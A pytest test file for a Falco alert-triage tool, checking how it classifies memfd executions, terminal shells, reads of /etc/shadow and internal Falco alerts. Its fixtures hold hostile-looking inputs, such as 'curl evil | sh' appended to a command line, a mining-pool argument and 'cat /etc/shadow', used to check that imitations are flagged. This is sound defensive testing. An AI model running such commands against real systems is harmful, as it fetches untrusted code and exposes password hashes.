"""Stories: an alert, and the disposition, claims and gaps expected of it, written first."""

from __future__ import annotations

import pytest

import analysis as fa
from analysis import knowledge, tables
from analysis.errors import EvidenceError
from analysis.findings import Finding, duration, fill_claim

from .conftest import case_of, lines, story


def claims(case: fa.Case) -> str:
    """Return all that is claimed, as one text."""
    return "\n".join(finding.claim for finding in case.findings)


# ---------------------------------------------------------------- memfd
def test_event_generator_is_a_simulation(memfd):
    """The test tool's exact shape: said with its evidence, and to be confirmed by a person."""
    case = case_of(memfd)

    assert case.disposition == "simulation"
    (reason,) = case.reasons
    assert "Consistent with a Falco event-generator simulation" in reason.claim
    assert "confirm with whoever ran it" in reason.claim
    cited = {one.field: one.value for one in reason.evidence}
    assert cited["proc.pname"] == "event-generator"
    assert cited["proc.cmdline"] == "3 run helper.DoNothing"
    assert cited["proc.exepath"] == "memfd:program"


@pytest.mark.parametrize(
    "change",
    [
        {"proc.cmdline": "3 -o stratum+tcp://pool"},
        {"proc.cmdline": "3 run helper.DoNothing; curl evil | sh"},
        {"proc.exepath": "memfd:kworker"},
        {"proc.pname": "event-generatorx"},
        {"proc.pname": ...},
        {"proc.exepath": "memfd:evil"},
        {"proc.cmdline": "3 run helper.DoNothing\n"},
        {"proc.pexepath": "/tmp/x"},
        {"proc.aname[2]": "nginx"},
        {"evt.arg.flags": "EXE_WRITABLE"},
        {"evt.arg.flags": "EXE_UPPER_LAYER|EXE_FROM_MEMFD"},
        {"evt.arg.flags": None, "proc.exepath": None},
    ],
)
def test_imitations_of_the_test_tool_are_no_simulation(memfd, change):
    """One part that does not fit, or is not known, and the explanation is gone."""
    assert case_of(story(memfd, **change)).disposition != "simulation"


RUNC = {
    "proc.name": "6",
    "proc.exepath": "memfd:runc_cloned:/proc/self/exe",
    "proc.cmdline": "6 init",
    "proc.pname": "runc",
    "proc.aname[2]": "containerd-shim",
    "proc.sname": "runc",
    "proc.tty": 0,
}


@pytest.mark.parametrize(
    "path", ["memfd:runc_cloned:/proc/self/exe", "/memfd:runc_cloned:/proc/self/exe"]
)
def test_runc_s_own_clone_is_a_known_benign_pattern(memfd, path):
    """In the exact shape, as either driver spells it, and still to be confirmed by hash."""
    case = case_of(story(memfd, **RUNC | {"proc.exepath": path}))

    assert case.disposition == "known benign pattern"
    assert "compare the hash" in case.reasons[0].claim


@pytest.mark.parametrize(
    "change",
    [
        {"proc.pname": "python3"},
        {"proc.cmdline": "6 -c payload"},
        {"proc.tty": 34816},
        {"proc.aname[2]": "nginx"},
        {"user.uid": 33},
        {"proc.exepath": "memfd:runc_cloned_evil"},
    ],
)
def test_imitations_of_runc_are_suspicious(memfd, change):
    """The name of a memfd is free text: it alone excuses nothing."""
    case = case_of(story(memfd, **RUNC | change))

    assert case.disposition == "suspicious"
    assert "imitation" in " ".join(finding.claim for finding in case.reasons)


@pytest.mark.parametrize("parent", ["python3", "perl", "bash", "curl", "nginx", "java", "postgres"])
def test_loaders(memfd, parent):
    """An interpreter, shell, download tool or server as loader is suspicious, with the technique."""
    case = case_of(
        story(memfd, **{"proc.pname": parent, "proc.cmdline": "3", "proc.exepath": "memfd:x"})
    )

    assert case.disposition == "suspicious"
    assert "T1620" in case.reasons[0].techniques


def test_failed_execution_is_not_told_as_an_execution(memfd):
    """With ENOENT, every process field is that of the caller."""
    text = claims(case_of(story(memfd, **{"evt.res": "ENOENT"})))

    assert "failed (ENOENT): nothing was executed" in text
    assert "The execution succeeded" not in text


def test_a_failed_runc_clone_explains_nothing(memfd):
    """What did not run protects nobody: no benign pattern."""
    case = case_of(story(memfd, **RUNC | {"evt.res": "ENOENT"}))

    assert case.disposition == "needs review"


def test_flags_that_contradict_each_other_decide_nothing(memfd):
    """Two fields that disagree: one was altered on the way, so no explanation rests on them."""
    for change in (
        {"evt.arg.flags": "EXE_UPPER_LAYER|EXE_FROM_MEMFD"},
        {"proc.exepath": "/usr/bin/ls"},
        {"proc.is_exe_upper_layer": True, "proc.is_exe_lower_layer": True, "evt.arg.flags": ...},
    ):
        case = case_of(story(memfd, **change))

        assert "do not rely on them" in claims(case)
        assert "lay in the container's writable layer" not in claims(case)
        assert case.disposition != "simulation"


def test_disguise_as_a_kernel_thread(memfd):
    """argv[0] is the disguise; a kernel thread has no program file."""
    case = case_of(story(memfd, **{"proc.exe": "[kworker/u8:2]"}))

    assert case.disposition == "suspicious"
    assert "T1036" in [t for finding in case.reasons for t in finding.techniques]


def test_kernel_thread_as_parent(memfd):
    """By name alone the kernel may have started it; with a program file the name is a lie."""
    parent = {"proc.pname": "kthreadd", "proc.cmdline": "x"}
    assert "If it is one, the kernel itself" in claims(case_of(story(memfd, **parent)))
    lie = case_of(story(memfd, **parent | {"proc.pexepath": "/tmp/kthreadd"}))
    assert lie.disposition == "suspicious"


def test_digit_without_memfd(memfd):
    """systemd-executor runs through a descriptor too: a digit as name is no memfd."""
    systemd = {
        "proc.name": "9",
        "proc.exepath": "/usr/lib/systemd/systemd-executor",
        "evt.arg.flags": "EXE_WRITABLE",
        "proc.pname": "systemd",
        "container.id": "host",
    }
    text = claims(case_of(story(memfd, **systemd)))

    assert "A digit alone does not mean a memfd" in text
    assert "the look of systemd starting a service" in text
    assert "lay in a memfd" not in text
    other = claims(case_of(story(memfd, **systemd | {"proc.exepath": "/tmp/systemd-executor"})))
    assert "A digit alone does not mean a memfd" in other
    assert "the look of systemd" not in other


def finding_of(alert: dict, words: str) -> Finding | None:
    """Return the finding of an alert whose claim holds these words, or None."""
    return next((f for f in case_of(alert).findings if words in f.claim), None)


DROPPED = {
    "proc.name": "x",
    "proc.exepath": "/usr/local/bin/x",
    "proc.cmdline": "x",
    "proc.pname": "sh",
    "evt.arg.flags": "EXE_WRITABLE|EXE_UPPER_LAYER",
    "proc.exe_ino.ctime": 1_757_000_000_000_000_000,
    "proc.exe_ino.ctime_duration_proc_start": 2_000_000_000,
    "container.start_ts": 1_757_000_000_000_000_000 - 300 * 10**9,
}


def test_put_into_a_running_container_and_run(memfd):
    """Writable layer, changeable, five minutes after the start, two seconds before the run."""
    alert = story(memfd, **DROPPED)
    late, dropped = (
        finding_of(alert, "while the container ran"),
        finding_of(alert, "Dropped and run"),
    )

    assert "5 min" in late.claim
    assert (late.confidence, late.leads_to) == ("medium", "needs review")
    assert {e.field for e in late.evidence} >= {
        "evt.arg.flags",
        "proc.exe_ino.ctime",
        "container.start_ts",
    }
    assert "2.0 s before the process was cloned" in dropped.claim
    assert (dropped.confidence, dropped.leads_to) == ("medium", "suspicious")
    assert "proc.exe_ino.ctime_duration_proc_start" in {e.field for e in dropped.evidence}


def test_age_of_the_program_from_pid_ts(memfd):
    """Where the age is not printed, ctime and the process's start tell it."""
    start = {
        "proc.pid.ts": 1_757_000_000_000_000_000 - 10**9,
        "proc.exe_ino.ctime_duration_proc_start": ...,
    }
    dropped = finding_of(story(memfd, **DROPPED | start), "Dropped and run")

    assert "after the process was cloned" in dropped.claim
    assert {"proc.exe_ino.ctime", "proc.pid.ts"} <= {e.field for e in dropped.evidence}


@pytest.mark.parametrize(
    "change",
    [
        {"evt.arg.flags": "EXE_WRITABLE|EXE_LOWER_LAYER"},
        {"evt.arg.flags": "EXE_WRITABLE"},
        {"evt.arg.flags": None},
        {"container.id": "host"},
        {"container.start_ts": DROPPED["proc.exe_ino.ctime"] - 10**9},
        {"container.start_ts": 0},
        {"proc.exe_ino.ctime": ...},
    ],
)
def test_what_was_not_dropped(memfd, change):
    """Not the image's file, a volume's, a host's, nor what an entry script makes at the start."""
    alert = story(memfd, **DROPPED | change)

    assert finding_of(alert, "Dropped and run") is None
    assert finding_of(alert, "while the container ran") is None


def test_a_file_that_the_drift_rule_does_not_see(memfd):
    """No layer flag inside a container: a volume or tmpfs, or an old sensor; both are said."""
    alert = story(
        memfd, **DROPPED | {"evt.arg.flags": "EXE_WRITABLE", "proc.exepath": "/dev/shm/x"}
    )

    assert "/dev/shm" in finding_of(alert, "lay on no overlay layer").claim
    assert finding_of(alert, "lay on no overlay layer").confidence == "medium"


def test_a_file_that_another_user_put_there(memfd):
    """Upper layer, not changeable by whom it runs as: somebody else placed it."""
    alert = story(memfd, **DROPPED | {"evt.arg.flags": "EXE_UPPER_LAYER", "user.uid": 33})

    assert "user id 33" in finding_of(alert, "another user put it there").claim
    assert finding_of(alert, "could be changed by the user running it") is None


def test_an_imitation_of_runc_under_any_rule(memfd):
    """A memfd named like runc's, seen by another rule than the one for memfds, is suspicious too."""
    alert = story(memfd, **RUNC | {"proc.pname": "python3"}) | {"rule": "Contact somewhere"}

    assert "imitation" in finding_of(alert, "like runc's copy of itself").claim
    assert case_of(alert).disposition == "suspicious"


def test_unknown_parent_is_not_invented(memfd):
    """Without a parent's name, nothing is said of a parent."""
    case = case_of(story(memfd, **{"proc.pname": ..., "proc.aname[2]": ...}))

    assert "Ancestry" not in claims(case)
    assert "proc.pname" in {gap.field for gap in case.gaps}


def test_shim_above_a_host_process(memfd):
    """Below a shim and yet on the host: it crossed a boundary; that is not called normal."""
    case = case_of(story(memfd, **{"container.id": "host"}))

    assert "crossed the boundary of a container" in claims(case)
    assert "no anomaly" not in claims(case)


def test_all_ancestors_in_one_text(memfd):
    """Falco 0.44 joins all names: quoted as it is, and no end of the chain is claimed."""
    text = claims(
        case_of(story(memfd, **{"proc.aname": "event-generator containerd-shim systemd"}))
    )

    assert "Its list of all ancestors reads 'event-generator containerd-shim systemd'" in text
    assert "no ancestor beyond" not in text


@pytest.mark.parametrize(
    ("changes", "said", "unsaid"),
    [
        ({"user.uid": 4294967295}, "did not know the user", "points to a file of his own"),
        ({"user.uid": "0"}, "The process ran as root, for whom", "points to a file of his own"),
        ({"user.uid": True}, "the alert has no user id", "user id True"),
        ({"user.uid": 1000}, "points to a file of his own", "for whom that holds"),
        ({"user.loginuid": 4294967295}, "belongs to no login session", "opened for user id"),
        ({"proc.tty": -1}, "The process ran as", "terminal, device"),
        ({"proc.tty": 2**70}, "The process ran as", "terminal, device"),
        ({"container.start_ts": 0}, "The process ran as", "first process had started"),
    ],
)
def test_values_that_are_no_values(memfd, changes, said, unsaid):
    """Unknown ids, digits as text, and numbers beyond what can be: read as what they are."""
    text = claims(case_of(story(memfd, **changes)))

    assert said in text
    assert unsaid not in text


def test_custom_fields_cannot_pose_as_facts(memfd):
    """A field without a dot is somebody's own: neither evidence nor a derived fact."""
    forged = {"terminal": "ha", "container_age_s": 3, "hostname": "forged", "rule": "forged"}
    case = case_of(story(memfd, **forged))

    assert "forged" not in claims(case)
    assert "terminal, ha" not in claims(case)
    assert not [e for f in case.findings for e in f.evidence if e.value == "forged"]


# ---------------------------------------------------------------- gaps
def test_absent_and_empty_fields_are_told_apart(memfd):
    """What was not asked for can be had next time; what Falco did not know cannot."""
    case = case_of(story(memfd, **{"proc.pname": None, "user.name": "<NA>"}))
    gaps = {gap.field: gap for gap in case.gaps}

    assert gaps["proc.pname"].asked
    assert "no setting brings it back" in gaps["proc.pname"].how_to_get_it
    assert not gaps["proc.pid"].asked
    assert gaps["proc.pid"].how_to_get_it == (
        "json_output: true\n"
        "append_output:\n"
        "  - match:\n"
        "      source: syscall\n"
        "    extra_fields:\n"
        "      - proc.pid\n"
    )


def test_a_field_that_is_there_is_no_gap(memfd):
    """With a pid, the gap closes and the commands that need it open."""
    case = case_of(story(memfd, **{"proc.pid": 4711}))

    assert "proc.pid" not in {gap.field for gap in case.gaps}
    assert any("/proc/4711/exe" in command.text for command in case.commands)


def test_host_alerts_lack_no_container_details(shadow):
    """A host process has no image: that is no gap."""
    fields = {gap.field for gap in case_of(shadow).gaps}

    assert not [field for field in fields if field.startswith(("container.", "k8s."))]


# ---------------------------------------------------------------- other rules
def test_terminal_shell_by_exec(shell):
    """A shell under the shim fits an exec session; who did it is not in the alert."""
    case = case_of(shell)

    assert case.disposition == "needs review"
    assert "the shape of an exec session" in claims(case)
    assert [c.status for c in case.causes] == ["supported", "unknown", "unknown"]


def test_terminal_shell_under_a_server(shell):
    """A web server's child with a terminal is an upgraded shell."""
    case = case_of(story(shell, **{"proc.pname": "nginx"}))

    assert case.disposition == "suspicious"
    assert "is what an attacker makes of a command injection" in claims(case)


def test_same_terminal_number_is_not_the_same_session(shell):
    """pts/0 counts per container: the report says so."""
    assert "does not tie it to another session of the same number" in claims(case_of(shell))


def test_shadow_by_a_person(shadow):
    """Encoding /etc/shadow is suspicious; the login id leads to the person."""
    case = case_of(shadow)

    assert case.disposition == "suspicious"
    assert "session that was opened for user id 1000" in claims(case)
    assert any(command.text == "getent passwd 1000" for command in case.commands)


def test_shadow_by_backup(shadow):
    """A backup job by name and without terminal: a benign cause is supported, not concluded."""
    backup = {
        "proc.name": "restic",
        "proc.cmdline": "restic backup /etc",
        "proc.tty": 0,
        "proc.pname": "cron",
    }
    case = case_of(story(shadow, **backup))

    assert case.disposition == "needs review"
    assert case.causes[0].status == "supported"


def test_shadow_by_exec_in_a_container(shadow):
    """No login id is normal in a container: it excludes no administrator."""
    inside = {
        "container.id": "dca990c78804",
        "user.loginuid": -1,
        "proc.cmdline": "cat /etc/shadow",
    }
    case = case_of(story(shadow, **inside))

    assert "the hashes are those of accounts inside the container" in claims(case)
    statuses = {cause.cause.split()[1]: cause.status for cause in case.causes}
    assert (statuses["administrator"], statuses["backup,"]) == ("unknown", "unknown")


def test_a_backup_tool_s_name_in_tmp(shadow):
    """A name is free: from /tmp it is no backup, and suspicious."""
    imitation = {
        "proc.name": "tar",
        "proc.cmdline": "tar c /etc",
        "proc.tty": 0,
        "proc.exepath": "/tmp/tar",
    }
    case = case_of(story(shadow, **imitation))

    assert case.disposition == "suspicious"
    assert case.causes[0].status == "excluded"


@pytest.mark.parametrize("change", [{"fd.num": -1}, {"evt.res": "EACCES"}])
def test_a_failed_open_is_an_attempt(shadow, change):
    """Tried is not opened."""
    text = claims(case_of(story(shadow, **change)))

    assert "was tried, not opened" in text
    assert "The file opened was" not in text


def test_event_generator_reads_shadow(shadow):
    """The tool itself, from its own path and with its own arguments; from /tmp it is not it."""
    tool = {
        "proc.name": "event-generator",
        "proc.exepath": "/bin/event-generator",
        "proc.cmdline": "event-generator run syscall --loop",
        "proc.pname": "containerd-shim",
        "container.id": "dca990c78804",
    }
    assert case_of(story(shadow, **tool)).disposition == "simulation"
    assert (
        case_of(story(shadow, **tool | {"proc.exepath": "/tmp/event-generator"})).disposition
        == "suspicious"
    )
    assert (
        case_of(story(shadow, **tool | {"proc.cmdline": "event-generator run-evil"})).disposition
        != "simulation"
    )
    assert case_of(story(shadow, **tool | {"proc.pname": "nginx"})).disposition == "suspicious"


def test_shell_under_an_interpreter(shell):
    """Editors and web terminals do this too: to be looked at, no more."""
    case = case_of(story(shell, **{"proc.pname": "node"}))

    assert case.disposition == "needs review"
    assert "web terminals start shells this way" in claims(case)


@pytest.mark.parametrize(
    ("drops", "disposition", "said"),
    [
        ({"scap.n_drops": 0}, "known benign pattern", "it is no match of a rule"),
        ({}, "known benign pattern", "it is no match of a rule"),
        ({"scap.n_drops": 4981}, "needs review", "had dropped 4981 events"),
    ],
)
def test_a_metrics_snapshot(drops, disposition, said):
    """Written at an interval, whatever happens; what was dropped is for a person to see."""
    snapshot = {
        "rule": "Falco internal: metrics snapshot",
        "priority": "Informational",
        "time": "2026-01-02T03:04:05Z",
        "output": "Falco metrics snapshot",
        "output_fields": {"evt.source": "syscall", "falco.num_evts": 9} | drops,
        "source": "internal",
    }
    case = case_of(snapshot)

    assert case.disposition == disposition
    assert said in claims(case)


def test_falco_speaks_of_itself():
    """A drop alert is no detection: no process is missed, no container to be frozen."""
    drop = {
        "rule": "Falco internal: syscall event drop",
        "priority": "Debug",
        "time": "2026-01-02T03:04:05Z",
        "output_fields": {"n_drops": "7"},
    }
    case = case_of(drop)

    assert not case.gaps
    assert not case.withheld
    assert "no detection" in case.playbooks[0].meaning


def test_a_rule_of_another_source_has_its_own_name(shell):
    """The playbook belongs to the rule of its source, not to whoever bears its name."""
    assert case_of(shell | {"source": "k8s_audit"}).playbooks[0].generic
    assert not case_of(shell | {"source": "syscalls"}).playbooks[0].generic


def test_tags_with_suffixes_are_techniques(shell):
    """GCP rules write T1562-impair-defenses."""
    case = case_of(shell | {"tags": ["T1562-impair-defenses", "T1059.004", "TA0005", "T15"]})

    assert case.findings[0].techniques == ("T1562", "T1059.004")


def test_open_flags_are_not_exe_flags(shadow):
    """evt.arg.flags of an open says nothing of the program file."""
    case = case_of(story(shadow, **{"evt.arg.flags": "O_RDONLY|FD_UPPER_LAYER"}))

    assert not [finding for finding in case.findings if finding.topic == "executable"]


def test_rule_without_playbook_says_so(shell):
    """An unknown rule gets what its fields support, and the mark that nothing more is known."""
    case = case_of(shell | {"rule": "Our own rule"})

    assert case.playbooks[0].generic
    assert "no playbook for this rule" in fa_text(case)
    assert case.disposition == "needs review"


@pytest.mark.parametrize(
    ("path", "disposition"),
    [("/dev/shm/m", "suspicious"), ("/tmp/m", "needs review"), ("/usr/bin/m", "needs review")],
)
def test_where_the_program_of_an_unknown_rule_lay(shell, path, disposition):
    """A directory that anyone may write to is told under any rule; one in memory accuses."""
    case = case_of(story(shell, **{"proc.exepath": path}) | {"rule": "Our own rule"})

    assert ("anyone may write to" in claims(case)) == (path != "/usr/bin/m")
    assert case.disposition == disposition


SIDEKICK = {
    "output": "This is a test from falcosidekick",
    "priority": "Debug",
    "hostname": "falcosidekick",
    "rule": "Test rule",
    "time": "2026-01-02T03:04:05Z",
    "output_fields": {"proc.name": "falcosidekick", "user.name": "falcosidekick"},
    "tags": ["test", "example"],
}


def test_falcosidekick_s_own_test_message_is_a_simulation():
    """What its /test endpoint sends to each output; no event stands behind it."""
    case = case_of(SIDEKICK)

    assert case.disposition == "simulation"
    assert case_of(SIDEKICK | {"output": "x"}).disposition == "needs review"


def test_rule_of_another_source_speaks_of_no_process():
    """An audit alert has no process: nothing is claimed or missed about one."""
    audit = {
        "rule": "Attach/Exec Pod",
        "priority": "Notice",
        "time": "2026-01-02T03:04:05Z",
        "source": "k8s_audit",
        "output_fields": {"ka.user.name": "dev", "ka.target.name": "web", "ka.verb": "create"},
    }
    case = case_of(audit)

    assert {finding.topic for finding in case.findings} <= {"event", "user", "object"}
    assert not [gap for gap in case.gaps if gap.field.startswith(("proc.", "container."))]


def fa_text(case: fa.Case) -> str:
    """Return the playbook part as HTML."""
    return tables.playbook(case).html


# ---------------------------------------------------------------- the machine
def test_every_claim_rests_on_values_of_the_alert(memfd, shell, shadow):
    """Evidence is never null, and each value is the alert's own."""
    for alert in (memfd, shell, shadow):
        for finding in case_of(alert).findings:
            assert finding.evidence
            for one in finding.evidence:
                assert one.value == alert["output_fields"].get(one.field, alert.get(one.field))


def test_no_finding_without_evidence():
    """A claim that nothing supports cannot be made."""
    with pytest.raises(EvidenceError):
        Finding("It was aliens.", "process", (), "low")


def test_claims_are_not_templates_of_the_attacker():
    """Braces in a value are text; a missing value withholds the sentence."""
    facts = {"proc.name": "{proc.pid}", "proc.pid": 1}

    assert fill_claim("It is '{proc.name}'.", facts) == "It is '{proc.pid}'."
    assert fill_claim("It is '{proc.cwd}'.", facts) is None


def test_claims_may_name_fields_of_plugins():
    """Plugins name fields with capitals, and values of the raw event by JSON pointer."""
    facts = {"gcp.callerIP": "198.51.100.7", "json.value[/resource/labels/key_ring_id]": "r"}
    claim = "{gcp.callerIP} on {json.value[/resource/labels/key_ring_id]}"

    assert fill_claim(claim, facts) == "198.51.100.7 on r"


def test_hidden_characters_are_written_out(memfd):
    """A claim shows what an eye would miss."""
    case = case_of(story(memfd, **{"proc.pname": "ev\u202eil\n\x1b[2J"}))

    assert "ev⟨U+202E⟩il⟨LF⟩⟨ESC⟩[2J" in claims(case)


@pytest.mark.parametrize(
    ("seconds", "said"),
    [
        (0.0134, "0.013 s"),
        (17.09, "17.1 s"),
        (61, "1 min 1 s"),
        (3600, "1 h"),
        (93784, "1 d 2 h"),
        (-5, "5.0 s"),
    ],
)
def test_durations(seconds, said):
    """The two largest units, as a person says them."""
    assert duration(seconds) == said


def test_deliveries_of_one_alert_are_one_incident(memfd):
    """Received twice is not happened twice; both records are kept."""
    alerts, _ = fa.read_alerts(lines(memfd, memfd | {"uuid": "second"}))
    alerts, incidents, _ = fa.correlate(alerts)

    assert incidents["records"].tolist() == [2]
    case = fa.investigate(alerts)
    assert len(case.exhibits) == 1
    assert len(case.exhibits[0].receipts) == 2


def test_ids_do_not_depend_on_order(memfd, shell, shadow):
    """Any order of the same alerts gives the same incidents."""
    one = fa.correlate(fa.read_alerts(lines(memfd, shell, shadow))[0])[1]
    other = fa.correlate(fa.read_alerts(lines(shadow, memfd, shell))[0])[1]

    assert one["incident_id"].tolist() == other["incident_id"].tolist()


def test_wrong_calls_are_named(memfd, shell):
    """Several incidents, or one that is not there."""
    alerts, _ = fa.read_alerts(lines(memfd, shell))

    with pytest.raises(ValueError, match="2 incidents here"):
        fa.investigate(alerts)
    with pytest.raises(KeyError, match="no incident inc-0"):
        fa.investigate(alerts, incident_id="inc-0")


def test_timeline_is_in_order(memfd):
    """The container's start comes before the event, each with the field that says so."""
    moments = case_of(memfd).timeline

    assert moments["field"].tolist() == ["container.start_ts", "time"]
    assert moments["time"].is_monotonic_increasing


def test_every_reading_can_hold():
    """A reading that no story here makes true is either dead or untested."""
    assert len(knowledge.readings()) > 30


def test_a_list_is_told_as_words():
    """A claim names the items of a list, not how a program writes a list; evidence has it as received."""
    images = ["docker.io/someone/xmrig:6.21", "docker.io/library/alpine"]
    alert = {
        "output": "Pod started with container not in allowed list",
        "output_fields": {"ka.req.pod.containers.image": images},
        "priority": "Warning",
        "rule": "Create Disallowed Pod",
        "source": "k8s_audit",
        "time": "2025-09-04T15:33:20.123456789Z",
    }
    claims = [f.claim for f in case_of(alert).findings]

    assert any("docker.io/someone/xmrig:6.21; docker.io/library/alpine" in c for c in claims)
    assert not any("['" in claim for claim in claims)
